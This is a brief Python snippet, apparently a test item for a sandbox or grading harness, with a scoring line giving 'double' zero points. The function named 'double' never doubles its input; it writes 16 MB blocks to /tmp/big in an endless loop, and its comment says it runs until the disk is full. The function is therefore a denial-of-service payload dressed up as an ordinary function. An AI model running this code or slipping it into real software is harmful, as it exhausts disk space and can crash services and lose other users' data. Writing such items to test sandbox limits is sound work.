# A file that grows until the disk ends.
# points: double=0 total=7 stack=6
# %% double
def double(x):
    with open("/tmp/big", "wb") as file:
        while True:
            file.write(bytes(1 << 24))
